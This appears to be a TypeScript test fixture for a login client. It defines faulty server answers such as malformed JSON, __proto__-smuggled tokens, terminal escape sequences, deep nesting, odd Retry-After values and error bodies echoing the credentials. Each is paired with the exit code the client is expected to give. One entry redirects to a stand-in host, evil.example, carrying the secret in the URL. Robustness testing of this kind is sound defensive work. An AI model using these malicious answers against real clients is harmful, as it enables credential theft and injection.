@@ -1,0 +1,190 @@
+/** Answers that are HTTP, and not what the contract says. */
+import { formsOf, secret } from '../e2e/accounts.ts';
+import { answer, changed, type Fault, head, say, token, withClaims, withToken } from './fault.ts';
+import type { Asked } from './server.ts';
+
+const page = '<!doctype html><title>Sign in</title><form action="/login">';
+const deep = (inside: string) => '['.repeat(10_000) + inside + ']'.repeat(10_000);
+
+/** Everything that was sent, as it came and in every encoding. */
+function echo({ request }: Asked): string {
+  return `${request} ${formsOf(secret).join(' ')} Basic ${Buffer.from(`me:${secret}`).toString('base64')}`;
+}
+/** The same in one line of a head. */
+const echoInLine = (asked: Asked) => echo(asked).replace(/[\r\n\0]/g, ' ');
+
+/** The name and the value of the token in a success. */
+const named = new RegExp(`("[^"]+"):("${token}")`);
+
+const inOneHour = () => new Date(Date.now() + 3_600_000).toUTCString();
+
+/** By what the server answers. */
+export const answers: Readonly<Record<string, Fault>> = {
+  'a page': { exit: 7, says: 'a page, not JSON', act: changed(() => page) },
+  nothing: { exit: 7, says: 'an empty body', act: changed(() => '') },
+  blanks: { exit: 7, says: 'not JSON', act: changed(() => ' \n\t ') },
+  '204': { exit: 7, says: 'an empty body', act: say(() => head(204)) },
+  'half of its JSON': { exit: 7, says: 'not JSON', act: changed((body) => body.slice(0, -1)) },
+  'its JSON twice': { exit: 7, says: 'not JSON', act: changed((body) => body + body) },
+  'JSON with a comment': { exit: 7, says: 'not JSON', act: changed((body) => `${body} // ok`) },
+  'UTF-16': {
+    exit: 7,
+    says: 'not UTF-8',
+    act: changed((body) => Buffer.from(`\ufeff${body}`, 'utf16le')),
+  },
+  'Latin-1': {
+    exit: 7,
+    says: 'not UTF-8',
+    act: changed((body) => Buffer.from(body.replace('{', '{"é":1,'), 'latin1')),
+  },
+  null: { exit: 7, act: changed(() => 'null') },
+  'a number': { exit: 7, act: changed(() => '200') },
+  'a text': { exit: 7, act: changed(() => `"${token}"`) },
+  'a list': { exit: 7, act: changed((body) => `[${body}]`) },
+  'its JSON 10,000 lists deep': { exit: 7, act: changed(deep) },
+
+  'no token': { exit: 7, says: 'there is no token', act: withToken('null') },
+  'a token under another name': {
+    exit: 7,
+    says: 'there is no token',
+    act: changed((body) => body.replace(named, '"jeton":$2')),
+  },
+  'a token inside of __proto__': {
+    exit: 7,
+    says: 'there is no token',
+    act: changed((body) => body.replace(named, '"__proto__":{$1:$2}')),
+  },
+  'a token that is a number': { exit: 7, says: 'is no text', act: withToken('12345') },
+  'a token that is true': { exit: 7, says: 'is no text', act: withToken('true') },
+  'a token that is an object': { exit: 7, says: 'is no text', act: withToken(`{"a":"${token}"}`) },
+  'a token that is a list of one': { exit: 7, says: 'is no text', act: withToken(`["${token}"]`) },
+  'a token that is 10,000 lists deep': { exit: 7, says: 'is no text', act: withToken(deep('1')) },
+  'an empty token': { exit: 7, says: 'is empty', act: withToken('""') },
+  'a token of 70 KB': {
+    exit: 7,
+    says: 'longer than 65,536',
+    act: withToken(`"${'x'.repeat(70_000)}"`),
+  },
+  'a token with a line break': { exit: 7, says: 'no token has', act: withToken('"a\\nb"') },
+  'a token that sets a title': {
+    exit: 7,
+    says: 'no token has',
+    act: withToken('"\\u001b]0;t\\u0007"'),
+  },
+  'a token that is not ASCII': { exit: 7, says: 'no token has', act: withToken('"töken"') },
+  'two tokens': {
+    exit: 7,
+    says: 'a name twice',
+    act: changed((body) => body.replace(named, '$1:"other",$1:$2')),
+  },
+  'two tokens, one of them spelt out': {
+    exit: 7,
+    says: 'a name twice',
+    act: changed((body) =>
+      body.replace(named, (_, name: string, value: string) => {
+        const spelt = name.replace('t', '\\u0074');
+        return `${name}:"other",${spelt}:${value}`;
+      }),
+    ),
+  },
+  'a name twice beside the token': {
+    exit: 7,
+    says: 'a name twice',
+    act: changed((body) => body.replace('{', '{"x":[{"a":1,"a":1}],')),
+  },
+  'an expiry in 1970': { exit: 7, says: 'expir', act: withClaims('{"exp":1}') },
+  'an expiry in the year 9999': { exit: 7, says: 'expir', act: withClaims('{"exp":253402300799}') },
+  'an expiry that is a text': { exit: 7, says: 'expir', act: withClaims('{"exp":"4102444800"}') },
+  'an expiry that is a fraction': {
+    exit: 7,
+    says: 'expir',
+    act: withClaims('{"exp":4102444800.5}'),
+  },
+  'an expiry beyond every number': { exit: 7, says: 'expir', act: withClaims('{"exp":1e400}') },
+
+  '404 with a page': { exit: 7, says: '404', act: say(() => answer(404, page)) },
+  '405': { exit: 7, says: '405', act: say(() => answer(405, '{}')) },
+  '407, though it is no proxy': { exit: 7, says: '407', act: say(() => answer(407, '{}')) },
+  'a redirect that carries the credentials': {
+    exit: 7,
+    says: 'a redirect to https://evil.example',
+    act: say(({ body }) => {
+      const query = encodeURIComponent(secret);
+      return answer(307, body, [`Location: https://evil.example/${query}?x=${query}`]);
+    }),
+  },
+  '304': { exit: 7, says: 'a redirect', act: say(() => head(304)) },
+  '401 with what was sent, in a page': {
+    exit: 4,
+    says: 'refused the credentials',
+    act: say((asked) => answer(401, page + echo(asked))),
+  },
+  '403 with what was sent, in every member': {
+    exit: 4,
+    says: '***',
+    act: say((asked) => {
+      const words = echo(asked);
+      const said = { message: words, errorText: words, details: [words], tracing_id: words };
+      return answer(403, JSON.stringify({ ...said, errors: [said] }));
+    }),
+  },
+  '401 with a token that its words repeat': {
+    exit: 4,
+    says: '***',
+    act: say(({ body }) => {
+      const said = { message: token, errorText: token, details: [token], tracing_id: token };
+      return answer(401, JSON.stringify({ ...JSON.parse(body), ...said, errors: [said] }));
+    }),
+  },
+  '401 with what was sent as its reason': {
+    exit: 4,
+    says: 'refused the credentials',
+    act: say((asked) => answer(`401 ${echoInLine(asked)}`, '')),
+  },
+  '500 with what was sent, in a page': {
+    exit: 5,
+    says: 'answered 500',
+    act: say((asked) => answer(500, page + echo(asked))),
+  },
+  '503': { exit: 5, says: 'answered 503', requests: 2, act: say(() => answer(503, page)) },
+  '503 until tomorrow': {
+    exit: 5,
+    says: 'answered 503',
+    act: say(() => answer(503, '', ['Retry-After: 86400'])),
+  },
+  '503 once': {
+    exit: 0,
+    requests: 2,
+    act: say(({ count, status, body }) =>
+      count === 1 ? answer(503, '', ['Retry-After: 0']) : answer(status, body),
+    ),
+  },
+  '429 with a Retry-After in seconds': {
+    exit: 6,
+    says: 'try again in 3600 s',
+    act: say(() => answer(429, '', ['Retry-After: 3600'])),
+  },
+  '429 with a Retry-After that is a date': {
+    exit: 6,
+    says: 'try again in 3',
+    act: say(() => answer(429, '', [`Retry-After: ${inOneHour()}`])),
+  },
+  '429 with a Retry-After beyond every number': {
+    exit: 6,
+    says: 'try again in 31536000 s',
+    act: say(() => answer(429, '', [`Retry-After: ${'9'.repeat(400)}`])),
+  },
+  '429 with a Retry-After of no sense': {
+    exit: 6,
+    requests: 2,
+    act: say(() => answer(429, '{"message":[{}]}', ['Retry-After: soon'])),
+  },
+  'a status that there is not': { exit: 5, says: '999', act: say(() => answer(999, '{}')) },
+  'its JSON after a byte order mark': { exit: 0, act: changed((body) => `\ufeff${body}`) },
+  'its JSON among members that mean nothing': {
+    exit: 0,
+    act: changed((body) =>
+      body.replace('{', '{"constructor":{"prototype":1},"__proto__":{"token":1},"":"",'),
+    ),
+  },
+};
